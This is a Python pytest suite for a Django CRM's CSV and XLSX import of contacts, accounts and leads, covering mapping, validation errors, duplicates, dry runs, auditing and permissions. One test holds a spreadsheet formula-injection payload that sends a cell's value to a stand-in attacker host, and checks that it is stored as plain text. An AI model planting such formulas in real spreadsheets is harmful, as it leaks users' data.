"""Import of accounts, contacts and leads: files, mapping, errors, duplicates, jobs and pages."""

from __future__ import annotations

import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook

from tests.conftest import make_user
from vinculo.core.audit import acting_as
from vinculo.core.models import AuditEntry, CustomField
from vinculo.core.roles import Role
from vinculo.core.services import custom_field_create
from vinculo.core.tenancy import organization_scope
from vinculo.customers import services
from vinculo.customers.imports import running
from vinculo.customers.imports import services as importing
from vinculo.customers.models import Account, Contact, ImportJob, ImportStatus, Lead


@pytest.fixture(autouse=True)
def _media_and_tasks(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


def upload(content: bytes | str, name: str = "people.csv") -> SimpleUploadedFile:
    if isinstance(content, str):
        content = content.encode("utf-8")
    return SimpleUploadedFile(name, content)


def run(actor, content, *, target="contact", name="people.csv", dry_run=False, **options):
    job = importing.import_job_create(actor=actor, target=target, file=upload(content, name),
                                      **options)
    return importing.import_job_start(actor=actor, job=job, dry_run=dry_run)


def error_texts(job: ImportJob) -> list[str]:
    return [e["text"] for e in job.errors]


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# ---- reading files and suggesting the mapping ---------------------------------------------------


def test_mapping_is_suggested_from_spanish_and_english_headers():
    assert importing.suggest_mapping(
        "contact", ["Nombre", "Apellidos", "Correo", "Teléfono", "Móvil", "Cargo", "Otra"]
    ) == {"Nombre": "first_name", "Apellidos": "last_name", "Correo": "email",
          "Teléfono": "phone", "Móvil": "mobile", "Cargo": "title", "Otra": ""}
    assert importing.suggest_mapping(
        "contact", ["First Name", "Last name", "E-mail", "Phone", "Job title"]
    ) == {"First Name": "first_name", "Last name": "last_name", "E-mail": "email",
          "Phone": "phone", "Job title": "title"}
    assert importing.suggest_mapping(
        "account", ["Empresa", "NIF", "Correo", "Teléfono", "Ciudad", "Código postal", "País"]
    ) == {"Empresa": "name", "NIF": "tax_id", "Correo": "email", "Teléfono": "phone",
          "Ciudad": "billing_city", "Código postal": "billing_postal_code",
          "País": "billing_country"}
    assert importing.suggest_mapping("lead", ["Nombre", "Empresa", "NIF", "Estado"]) == {
        "Nombre": "first_name", "Empresa": "company_name", "NIF": "tax_id", "Estado": "status"}
    # The same field is never suggested for two columns.
    assert importing.suggest_mapping("contact", ["Email", "Correo"]) == {
        "Email": "email", "Correo": ""}


def test_latin1_file_with_semicolons_is_read_correctly(as_admin):
    content = "Nombre;Apellidos;Correo;Cargo\nJosé;Núñez Peña;jose@example.es;Director técnico\n"
    job = run(as_admin, content.encode("cp1252"))
    assert (job.encoding, job.delimiter) == ("cp1252", ";")
    assert job.status == ImportStatus.DONE and job.created_count == 1, job.errors
    contact = Contact.objects.get(email="jose@example.es")
    assert (contact.first_name, contact.last_name, contact.title) == (
        "José", "Núñez Peña", "Director técnico")


def test_utf8_with_bom_and_commas(as_admin):
    content = "\ufeffFirst name,Last name,Email\nÅsa,Ørsted,asa@example.com\n"
    job = run(as_admin, content.encode("utf-8"))
    assert (job.encoding, job.delimiter) == ("utf-8", ",")
    assert job.mapping == {"First name": "first_name", "Last name": "last_name",
                           "Email": "email"}
    assert Contact.objects.get(email="asa@example.com").full_name == "Åsa Ørsted"


@pytest.mark.parametrize(("content", "name", "message"), [
    (b"", "a.csv", "The file is empty."),
    (b"  \n\n", "a.csv", "The file is empty."),
    (bytes(range(256)) * 4, "a.csv", "This file is not text"),
    (b"name\n\x81\x8d\x8f\x90\x9d\x81\x8d\x8f\n", "a.csv", "neither UTF-8 nor Latin-1"),
    (b"%PDF-1.7\nxxxx", "a.pdf", "This is a PDF"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "a.xls", "old Excel (.xls)"),
    (b"PK\x03\x04not really a zip", "a.xlsx", "not a readable XLSX workbook"),
    (b"First name,Email\n", "a.csv", "no data rows"),
])
def test_bad_files_get_a_clear_error_and_no_job(as_admin, content, name, message):
    with pytest.raises(ValidationError) as caught:
        importing.import_job_create(actor=as_admin, target="contact", file=upload(content, name))
    assert message in " ".join(caught.value.message_dict["file"])
    assert ImportJob.objects.count() == 0


def test_missing_required_columns_are_refused_before_reading_rows(as_admin):
    with pytest.raises(ValidationError) as caught:
        importing.import_job_create(actor=as_admin, target="account",
                                    file=upload("Correo;Teléfono\na@b.es;600111222\n"))
    assert caught.value.message_dict["mapping"] == [
        "No column is mapped to Name, which every row needs."]
    with pytest.raises(ValidationError) as caught:
        importing.import_job_create(actor=as_admin, target="contact",
                                    file=upload("Teléfono,Cargo\n600111222,CEO\n"))
    assert caught.value.message_dict["mapping"] == [
        "Map at least one of these columns: First name, Last name, E-mail."]
    with pytest.raises(ValidationError) as caught:
        importing.import_job_create(actor=as_admin, target="contact",
                                    file=upload("Nombre,Correo\nAna,a@b.es\n"),
                                    mapping={"Nombre": "first_name", "Correo": "nonsense"})
    assert "Unknown field “nonsense”" in caught.value.message_dict["mapping"][0]
    assert ImportJob.objects.count() == 0


# ---- rows: errors name the line and the field ----------------------------------------------------


def test_bad_emails_and_phones_name_line_and_field_and_good_rows_are_imported(as_admin):
    content = (
        "Nombre;Correo;Teléfono\n"
        "Ana;ana@example.es;600 111 222\n"
        "Bea;not-an-email;600 111 333\n"
        "Carla;carla@example.es;12\n"
        "\n"
        "Dani;dani@;abc\n"
        "Eva;eva@example.es;+34 600 111 444\n"
    )
    job = run(as_admin, content)
    assert job.status == ImportStatus.DONE
    assert error_texts(job) == [
        "line 3, email: Enter a valid e-mail address.",
        "line 4, phone: Enter a valid phone number.",
        "line 6, email: Enter a valid e-mail address.",
        "line 6, phone: Enter a valid phone number.",
    ]
    assert (job.created_count, job.updated_count, job.skipped_count) == (2, 0, 0)
    assert sorted(Contact.objects.values_list("email", "phone")) == [
        ("ana@example.es", "+34600111222"), ("eva@example.es", "+34600111444")]


def test_line_numbers_count_physical_lines_of_multiline_cells(as_admin):
    content = 'Nombre,Cargo,Correo\nAna,"Jefa de\nventas",ana@example.es\nBea,CEO,bad@\n'
    job = run(as_admin, content)
    assert error_texts(job) == ["line 4, email: Enter a valid e-mail address."]
    assert Contact.objects.get(email="ana@example.es").title == "Jefa de\nventas"


def test_row_without_name_or_email_is_an_error(as_admin):
    job = run(as_admin, "Nombre,Correo,Cargo\n,,CEO\nAna,,\n")
    assert error_texts(job) == [
        "line 2, first_name: The row needs a value in one of: First name, Last name, E-mail."]
    assert job.created_count == 1


def test_formula_in_a_cell_is_imported_as_plain_text(as_admin):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    content = 'Nombre,Apellidos,Correo,Teléfono\n"' + formula.replace('"', '""') + \
              "\",'=1+1,f@example.es,'+34600111222\n"
    job = run(as_admin, content)
    assert job.created_count == 1, job.errors
    contact = Contact.objects.get(email="f@example.es")
    assert contact.first_name == formula
    # Our own export's quote is removed again: "'=1+1" -> "=1+1", "'+34…" -> "+34…".
    assert (contact.last_name, contact.phone) == ("=1+1", "+34600111222")


def test_xlsx_file(as_admin):
    data = xlsx_bytes([
        ["First name", "Last name", "Email", "Phone", "Tags"],
        ["Ana", "Ruiz", "ana@example.es", 600111222, "vip, madrid"],
        [None, None, None, None, None],
        ["Bea", "Gil", "bad-email", None, None],
    ])
    job = run(as_admin, data, name="people.xlsx")
    assert job.encoding == "" and job.delimiter == ""
    assert error_texts(job) == ["line 4, email: Enter a valid e-mail address."]
    contact = Contact.objects.get(email="ana@example.es")
    assert contact.phone == "+34600111222"
    assert sorted(contact.tags.values_list("name", flat=True)) == ["madrid", "vip"]


def test_choice_labels_booleans_and_custom_fields(as_admin):
    custom_field_create(organization=as_admin.organization, model="account", key="segment",
                        label="Segmento", type="choice", choices=["A", "B"])
    content = (
        "Empresa;NIF;Particular;Etapa;Segmento;País\n"
        "Talleres Ruiz SL;B12345674;no;Customer;A;es\n"
        "Ana Gil;12345678Z;sí;Lead;C;ES\n"
        "Raro;;quizá;Prospect;;\n"
    )
    job = run(as_admin, content, target="account")
    assert error_texts(job) == [
        "line 3, custom_fields.segment: Choose one of: A, B.",
        "line 4, is_person: Enter yes or no.",
    ]
    account = Account.objects.get()
    assert (account.name, account.tax_id, account.is_person, account.lifecycle_stage,
            account.custom_fields, account.billing_country) == (
        "Talleres Ruiz SL", "B12345674", False, "customer", {"segment": "A"}, "ES")


# ---- duplicates --------------------------------------------------------------------------------

DUPLICATES = (
    "Nombre;Apellidos;Correo;Teléfono;Cargo\n"
    "Ana;;ANA@example.es;;CEO\n"           # 2: the existing Ana, by e-mail
    "Bea;;bea@example.es;600 222 333;\n"   # 3: new
    "Bea;Gil;;600222333;\n"                # 4: line 3 again, by phone
    ";Alonso;;600 111 222;\n"              # 5: the existing Ana, by phone
)


@pytest.fixture
def ana(as_admin):
    return services.contact_create(actor=as_admin, data={
        "first_name": "Ana", "email": "ana@example.es", "phone": "600111222", "title": "CFO"})


def test_duplicates_skip(as_admin, ana):
    job = run(as_admin, DUPLICATES, duplicate_mode="skip")
    assert (job.created_count, job.updated_count, job.skipped_count, job.errors) == (1, 0, 3, [])
    ana.refresh_from_db()
    assert (ana.title, ana.last_name) == ("CFO", "")
    assert Contact.objects.count() == 2
    assert Contact.objects.get(email="bea@example.es").last_name == ""


def test_duplicates_update(as_admin, ana):
    job = run(as_admin, DUPLICATES, duplicate_mode="update")
    assert (job.created_count, job.updated_count, job.skipped_count, job.errors) == (1, 3, 0, [])
    ana.refresh_from_db()
    assert (ana.first_name, ana.last_name, ana.title, ana.email) == (
        "Ana", "Alonso", "CEO", "ana@example.es")
    bea = Contact.objects.get(email="bea@example.es")
    assert (bea.full_name, bea.phone) == ("Bea Gil", "+34600222333")
    assert Contact.objects.count() == 2
    # Updates go through contact_update: the audit log says who changed what.
    entry = AuditEntry.objects.filter(object_id=ana.pk, action="update").order_by("id").first()
    assert entry.actor == as_admin and entry.changes["title"] == ["CFO", "CEO"]


def test_duplicates_create(as_admin, ana):
    job = run(as_admin, DUPLICATES, duplicate_mode="create")
    assert (job.created_count, job.updated_count, job.skipped_count) == (4, 0, 0)
    assert Contact.objects.count() == 5


def test_account_duplicates_by_tax_id_email_and_close_name(as_admin):
    services.account_create(actor=as_admin, data={"name": "Talleres Ruiz SL",
                                                  "tax_id": "B12345674"})
    services.account_create(actor=as_admin, data={"name": "Globo", "email": "info@globo.es"})
    content = (
        "Empresa,NIF,Correo\n"
        "Otro nombre,B-12345674,\n"        # tax id
        "Globo Eventos,,INFO@globo.es\n"   # e-mail
        "Talleres Ruiz S.L.,,\n"           # close name
        "Nueva Empresa,,\n"                # new
        "Nueva  empresa,,\n"               # same as the line above
    )
    job = run(as_admin, content, target="account", duplicate_mode="skip")
    assert (job.created_count, job.skipped_count, job.errors) == (1, 4, [])
    assert sorted(Account.objects.values_list("name", flat=True)) == [
        "Globo", "Nueva Empresa", "Talleres Ruiz SL"]


def test_leads_match_leads_by_email_then_phone(as_admin):
    services.lead_create(actor=as_admin, data={"first_name": "Luis", "email": "luis@x.es"})
    content = "Nombre,Correo,Teléfono,Empresa,Estado,Puntuación\n" \
              "Luis,luis@x.es,,,Qualified,40\nMar,mar@x.es,600333444,Mar SL,Contacted,10\n" \
              "Mar,,600 333 444,,,\n"
    job = run(as_admin, content, target="lead", duplicate_mode="update")
    assert (job.created_count, job.updated_count, job.errors) == (1, 2, [])
    assert Lead.objects.get(email="luis@x.es").status == "qualified"
    mar = Lead.objects.get(email="mar@x.es")
    assert (mar.company_name, mar.status, mar.score) == ("Mar SL", "contacted", 10)


# ---- all or nothing, dry run -------------------------------------------------------------------


@pytest.mark.parametrize("bulk_threshold", [1000, 0])
def test_all_or_nothing_writes_nothing_and_lists_every_bad_row(as_admin, ana, bulk_threshold,
                                                               monkeypatch):
    monkeypatch.setattr(running, "BULK_THRESHOLD", bulk_threshold)
    before = (Contact.objects.count(), AuditEntry.objects.count())
    content = ("Nombre,Correo,Teléfono\nZoe,zoe@x.es,\nYago,bad@,\nXia,xia@x.es,1\n"
               "Ana,ana@example.es,\n")
    job = run(as_admin, content, all_or_nothing=True, duplicate_mode="update")
    assert job.status == ImportStatus.DONE
    assert error_texts(job) == ["line 3, email: Enter a valid e-mail address.",
                                "line 4, phone: Enter a valid phone number."]
    assert (job.created_count, job.updated_count) == (0, 0)
    assert (Contact.objects.count(), AuditEntry.objects.count()) == before


def test_without_errors_all_or_nothing_imports_everything(as_admin):
    job = run(as_admin, "Nombre,Correo\nZoe,zoe@x.es\nYago,yago@x.es\n", all_or_nothing=True)
    assert (job.created_count, job.errors) == (2, [])


def test_dry_run_reports_and_writes_nothing(as_admin, ana):
    before = (Contact.objects.count(), AuditEntry.objects.count())
    job = run(as_admin, DUPLICATES + "Zoe;;zoe@;;\n", duplicate_mode="update", dry_run=True)
    assert job.dry_run and job.status == ImportStatus.DONE
    assert (job.created_count, job.updated_count, job.skipped_count) == (1, 3, 0)
    assert error_texts(job) == ["line 6, email: Enter a valid e-mail address."]
    assert (Contact.objects.count(), AuditEntry.objects.count()) == before
    ana.refresh_from_db()
    assert ana.title == "CFO"
    # The previewed job can then be run for real, once.
    job = importing.import_job_start(actor=as_admin, job=job, dry_run=False)
    assert (job.dry_run, job.created_count, job.updated_count) == (False, 1, 3)
    with pytest.raises(ValidationError):
        importing.import_job_start(actor=as_admin, job=job, dry_run=False)


# ---- the audit log -----------------------------------------------------------------------------


def test_bulk_created_rows_are_audited_with_the_actor(as_admin, monkeypatch):
    monkeypatch.setattr(running, "BULK_THRESHOLD", 0)
    job = run(as_admin, "Nombre,Correo,Etiquetas\nZoe,zoe@x.es,vip\nYago,yago@x.es,\n")
    assert job.created_count == 2
    zoe = Contact.objects.get(email="zoe@x.es")
    entries = list(AuditEntry.objects.filter(object_id=zoe.pk, object_type="customers.contact")
                   .order_by("id"))
    assert [e.action for e in entries] == ["create", "update"]
    assert all(e.actor == as_admin for e in entries)
    assert entries[0].changes["email"] == [None, "zoe@x.es"]
    assert entries[0].changes["owner_id"] == [None, as_admin.pk]
    assert entries[1].changes == {"tags": {"added": ["vip"]}}


# ---- background task ---------------------------------------------------------------------------


def test_large_import_runs_as_a_task_and_updates_progress(as_admin,
                                                          django_capture_on_commit_callbacks):
    rows = importing.INLINE_LIMIT + 150
    lines = ["Nombre,Correo"] + [f"P{i},p{i}@example.com" for i in range(rows)] + ["Bad,bad@"]
    job = importing.import_job_create(actor=as_admin, target="contact",
                                      file=upload("\n".join(lines)))
    assert job.total_rows == rows + 1
    with CaptureQueriesContext(connection) as queries, \
            django_capture_on_commit_callbacks(execute=True) as callbacks:
        started = importing.import_job_start(actor=as_admin, job=job, dry_run=False)
        assert started.status == ImportStatus.PENDING  # queued, not run inside the request
    assert len(callbacks) == 1
    progress_updates = [q["sql"] for q in queries.captured_queries
                        if "processed_rows" in q["sql"] and q["sql"].startswith("UPDATE")]
    assert len(progress_updates) >= 3  # reset, every 1000 rows, and the end
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE and job.finished_at is not None
    assert (job.processed_rows, job.total_rows, job.progress) == (rows + 1, rows + 1, 100)
    assert (job.created_count, error_texts(job)) == (
        rows, [f"line {rows + 2}, email: Enter a valid e-mail address."])
    assert Contact.objects.count() == rows
    assert AuditEntry.objects.filter(object_type="customers.contact", action="create",
                                     actor=as_admin).count() == rows


def test_task_runs_in_the_job_organisation_as_its_user(admin, other_admin):
    with organization_scope(admin.organization), acting_as(admin):
        job = importing.import_job_create(actor=admin, target="contact",
                                          file=upload("Nombre,Correo\nAna,ana@x.es\n"))
        job.dry_run = False
        job.save()
    from vinculo.customers.tasks import import_run

    # Called from outside any scope, as the worker does.
    assert import_run.call(job.pk) == ImportStatus.DONE
    with organization_scope(admin.organization):
        contact = Contact.objects.get()
        assert contact.owner == admin
        assert AuditEntry.objects.get(object_type="customers.contact",
                                      object_id=contact.pk).actor == admin
    with organization_scope(other_admin.organization):
        assert Contact.objects.count() == 0


# ---- pages -------------------------------------------------------------------------------------


def test_pages_upload_mapping_preview_run_result(page, admin):
    response = page.get(reverse("customers:import_start"))
    assert response.status_code == 200
    content = "Nombre;Apellidos;Correo;Columna rara\nAna;Núñez;ana@x.es;1\nBea;;bad@;2\n"
    response = page.post(reverse("customers:import_start"),
                         {"target": "contact", "file": upload(content.encode("cp1252"))})
    assert response.status_code == 302
    with organization_scope(admin.organization):
        job = ImportJob.objects.get()
    assert response["Location"] == reverse("customers:import_mapping", kwargs={"uuid": job.uuid})
    response = page.get(response["Location"])
    html = response.content.decode()
    assert '<option value="first_name" selected>First name</option>' in html
    # each column's first values, the empty ones left out (no dangling separator)
    assert ">Ana · Bea</td>" in html and ">Núñez</td>" in html
    assert "Columna rara" in html and "cp1252" in html
    # Map the odd column to the job title, and preview.
    response = page.post(reverse("customers:import_mapping", kwargs={"uuid": job.uuid}), {
        "col_0": "first_name", "col_1": "last_name", "col_2": "email", "col_3": "title",
        "duplicate_mode": "skip", "action": "preview"})
    assert response.status_code == 302
    response = page.get(response["Location"])
    html = response.content.decode()
    assert "nothing has been saved yet" in html
    assert re.search(r'id="count-created">1<', html)
    assert "Enter a valid e-mail address." in html and "<td>3</td>" in html
    with organization_scope(admin.organization):
        assert Contact.objects.count() == 0
    response = page.post(reverse("customers:import_run", kwargs={"uuid": job.uuid}))
    assert response.status_code == 302
    html = page.get(response["Location"]).content.decode()
    assert "Import finished." in html
    with organization_scope(admin.organization):
        assert list(Contact.objects.values_list("full_name", "title")) == [("Ana Núñez", "1")]
    # A second run is refused.
    response = page.post(reverse("customers:import_run", kwargs={"uuid": job.uuid}))
    assert response.status_code == 409
    with organization_scope(admin.organization):
        assert Contact.objects.count() == 1
    errors_csv = b"".join(page.get(reverse("customers:import_errors",
                                           kwargs={"uuid": job.uuid})).streaming_content)
    assert "3,email,Enter a valid e-mail address." in errors_csv.decode("utf-8-sig")


def test_upload_page_shows_file_errors(page):
    response = page.post(reverse("customers:import_start"),
                         {"target": "account", "file": upload(bytes(range(256)), "x.csv")})
    assert response.status_code == 400
    assert "This file is not text" in response.content.decode()
    assert ImportJob.all_objects.count() == 0


def test_mapping_page_asks_for_the_missing_columns(page, admin):
    response = page.post(reverse("customers:import_start"),
                         {"target": "account", "file": upload("Correo;Razón\na@b.es;X SL\n")})
    assert response.status_code == 302
    html = page.get(response["Location"]).content.decode()
    assert "No column is mapped to Name, which every row needs." in html
    response = page.post(response["Location"], {"col_0": "email", "col_1": "",
                                                "duplicate_mode": "skip", "action": "preview"})
    assert response.status_code == 400
    assert "No column is mapped to Name" in response.content.decode()
    response = page.post(reverse("customers:import_mapping", kwargs={
        "uuid": ImportJob.all_objects.get().uuid}), {
        "col_0": "email", "col_1": "name", "duplicate_mode": "skip", "action": "run"})
    assert response.status_code == 302
    with organization_scope(admin.organization):
        assert list(Account.objects.values_list("name", "email")) == [("X SL", "a@b.es")]


def test_mapping_page_refuses_a_field_mapped_twice(page, admin):
    page.post(reverse("customers:import_start"),
              {"target": "contact", "file": upload("A,B\nAna,ana@x.es\n")})
    with organization_scope(admin.organization):
        job = ImportJob.objects.get()
    response = page.post(reverse("customers:import_mapping", kwargs={"uuid": job.uuid}), {
        "col_0": "email", "col_1": "email", "duplicate_mode": "skip", "action": "run"})
    assert response.status_code == 400
    assert "mapped from two columns" in response.content.decode()


def test_progress_fragment_polls_until_done(page, admin):
    with organization_scope(admin.organization), acting_as(admin):
        job = importing.import_job_create(actor=admin, target="contact",
                                          file=upload("Nombre\nAna\n"))
    url = reverse("customers:import_progress", kwargs={"uuid": job.uuid})
    response = page.get(url, headers={"HX-Request": "true"})
    assert 'hx-trigger="every 1s"' in response.content.decode()
    assert "HX-Redirect" not in response
    ImportJob.all_objects.filter(pk=job.pk).update(status=ImportStatus.RUNNING,
                                                   processed_rows=1, total_rows=2)
    assert "50%" in page.get(url).content.decode()
    ImportJob.all_objects.filter(pk=job.pk).update(status=ImportStatus.DONE)
    response = page.get(url, headers={"HX-Request": "true"})
    assert response["HX-Redirect"] == reverse("customers:import_detail",
                                              kwargs={"uuid": job.uuid})
    assert "every 1s" not in response.content.decode()


# ---- tenancy and permissions -------------------------------------------------------------------


def test_another_organisation_or_user_gets_404_and_sees_no_rows(client, admin, other_admin,
                                                                users):
    with organization_scope(admin.organization), acting_as(admin):
        job = run(admin, "Nombre,Correo\nAna,ana@x.es\n")
    names = ["import_detail", "import_mapping", "import_progress", "import_errors"]
    for intruder in (other_admin, users[Role.SALES_MANAGER]):
        client.force_login(intruder)
        for name in names:
            response = client.get(reverse(f"customers:{name}", kwargs={"uuid": job.uuid}))
            assert response.status_code == 404, (intruder, name)
        response = client.post(reverse("customers:import_run", kwargs={"uuid": job.uuid}))
        assert response.status_code == 404
    with organization_scope(other_admin.organization):
        assert Contact.objects.count() == 0
        assert ImportJob.objects.count() == 0
    with organization_scope(admin.organization):
        assert Contact.objects.count() == 1


@pytest.mark.parametrize("role", [Role.READ_ONLY, Role.SALES_REP, Role.ANALYST])
def test_roles_without_import_permission_get_403(client, users, role):
    client.force_login(users[role])
    assert client.get(reverse("customers:import_start")).status_code == 403
    response = client.post(reverse("customers:import_start"),
                           {"target": "contact", "file": upload("Nombre\nAna\n")})
    assert response.status_code == 403
    assert client.get(reverse("customers:contact_vcard_import")).status_code == 403
    assert ImportJob.all_objects.count() == 0


def test_marketing_may_import(client, users):
    client.force_login(users[Role.MARKETING])
    response = client.post(reverse("customers:import_start"),
                           {"target": "lead", "file": upload("Nombre\nAna\n")})
    assert response.status_code == 302


def test_new_records_belong_to_the_importer(org, users):
    manager = users[Role.SALES_MANAGER]
    with organization_scope(org), acting_as(manager):
        run(manager, "Nombre\nAna\n")
        assert Contact.objects.get().owner == manager


def test_custom_field_required_is_enforced(as_admin):
    CustomField.all_objects.create(organization=as_admin.organization, model="contact",
                                   key="dni", label="DNI", type="text", required=True)
    job = run(as_admin, "Nombre,DNI\nAna,123\nBea,\n")
    assert job.mapping == {"Nombre": "first_name", "DNI": "custom_fields.dni"}
    assert error_texts(job) == ["line 3, custom_fields.dni: This field is required."]
    assert Contact.objects.get().custom_fields == {"dni": "123"}


def test_other_org_user_cannot_be_used(other_org):
    intruder = make_user(other_org, Role.READ_ONLY, "ro@globex.test")
    with organization_scope(other_org), acting_as(intruder), pytest.raises(Exception) as caught:
        importing.import_job_create(actor=intruder, target="contact", file=upload("Nombre\nA\n"))
    assert "does not allow" in str(caught.value)


def test_the_result_page_names_the_field_of_an_error_as_the_mapping_does(as_admin, page):
    """The errors table said "email" (the model's key) where the mapping step said "E-mail"."""
    job = run(as_admin, "Nombre;Correo\nBea;not-an-email\n")
    html = page.get(reverse("customers:import_detail", kwargs={"uuid": job.uuid})).content
    assert re.search(rb"<td>2</td><td>E-mail</td><td>Enter a valid e-mail address.</td>", html)
